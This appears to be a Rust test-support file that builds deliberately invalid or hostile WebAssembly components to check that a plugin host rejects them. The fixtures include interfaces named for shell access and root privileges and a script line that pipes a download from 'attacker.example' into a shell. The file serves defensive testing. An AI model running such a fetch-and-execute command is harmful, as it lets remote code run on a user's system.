//! Components that no compiler would write.

use std::path::Path;

use wit_component::{ComponentEncoder, StringEncoding, embed_component_metadata};
use wit_parser::{PackageId, Resolve};

use super::table::Row;
use crate::world::component;

/// Worlds beside the contract's own. `{v}` is its version.
const WORLDS: &str = "
package hostile:worlds@1.0.0;
world timers { import wasi:clocks/monotonic-clock@0.2.0; export bespin:plugin/guest@{v}; }
world random { import wasi:random/random@0.2.0; export bespin:plugin/guest@{v}; }
world command { export wasi:cli/run@0.2.0; }
world newer { export bespin:plugin/guest@2.0.0; }
world shell { import evil:host/shell@0.1.0; export bespin:plugin/guest@{v}; }
world root { import evil:ability/root@1.0.0; export bespin:plugin/guest@{v}; }
world wasi-http { import wasi:http/outgoing-handler@0.2.0; export bespin:plugin/guest@{v}; }
package wasi:io@0.2.0 { interface poll { resource pollable; } }
package wasi:clocks@0.2.0 {
    interface monotonic-clock { use wasi:io/poll@0.2.0.{pollable}; subscribe-duration: func(when: u64) -> pollable; }
}
package wasi:random@0.2.0 { interface random { get-random-bytes: func(len: u64) -> list<u8>; } }
package wasi:cli@0.2.0 { interface run { run: func() -> result; } }
package wasi:http@0.2.0 { interface outgoing-handler { handle: func(); } }
package evil:host@0.1.0 { interface shell { run: func(command: string); } }
package evil:ability@1.0.0 { interface root { become: func(); } }
package bespin:plugin@2.0.0 { interface guest { run: func() -> u32; } }
";

/// The contract, and its version.
fn contract() -> (Resolve, PackageId, String) {
    let mut resolve = Resolve::default();
    let wit = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../plugins/wit");
    let (package, _) = resolve.push_dir(wit).unwrap();
    let version = resolve.packages[package].name.version.as_ref().unwrap().to_string();
    (resolve, package, version)
}

/// A component from the core module of a row.
pub(super) fn core(row: &Row) -> Vec<u8> {
    let (mut resolve, package, version) = contract();
    let fill = |text: &str| text.replace("{v}", &version);
    let core = row.core.as_ref().unwrap();
    let mut module = wat::parse_str(format!("(module {})", fill(core))).unwrap_or_else(|e| panic!("{}: {e}", row.name));
    let world = match row.world.as_deref() {
        None => resolve.select_world(&[package], Some("step")),
        Some(world) => {
            let worlds = resolve.push_str("worlds.wit", &fill(WORLDS)).unwrap();
            resolve.select_world(&[worlds], Some(world))
        }
    };
    embed_component_metadata(&mut module, &resolve, world.unwrap(), StringEncoding::UTF8).unwrap();
    let encoded = ComponentEncoder::default().module(&module).and_then(|mut encoder| encoder.encode());
    encoded.unwrap_or_else(|error| panic!("{}: {error:#}", row.name))
}

/// A file that is no plugin, by the name of its row.
pub(super) fn bytes(name: &str) -> Vec<u8> {
    let component_of = |text: &str| wat::parse_str(format!("(component {text})")).unwrap();
    match name {
        "file-empty" => Vec::new(),
        "file-script" => b"#!/bin/sh\ncurl attacker.example | sh\n".to_vec(),
        "file-truncated" => {
            let mut whole = std::fs::read(component("hostile")).unwrap();
            whole.truncate(whole.len() / 2);
            whole
        }
        "file-flipped" => b"\0asm\x0d\0\x01\0\x01\xff\xff\x03\0".to_vec(),
        "file-oversized" => vec![0; (64 << 20) + 1],
        "file-module" => wat::parse_str("(module)").unwrap(),
        "file-native" => b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(),
        "world-none" => component_of(""),
        "world-signature" => component_of(&format!(
            r#"(core module $m (func (export "run"))) (core instance $i (instantiate $m))
            (func $run (canon lift (core func $i "run"))) (instance $guest (export "run" (func $run)))
            (export "bespin:plugin/guest@{}" (instance $guest))"#,
            contract().2
        )),
        "instances" => component_of(&format!("(core module $m) {}", "(core instance (instantiate $m))".repeat(100))),
        "shared-memory" => component_of("(core module (memory 1 1 shared))"),
        other => panic!("nothing makes {other}"),
    }
}
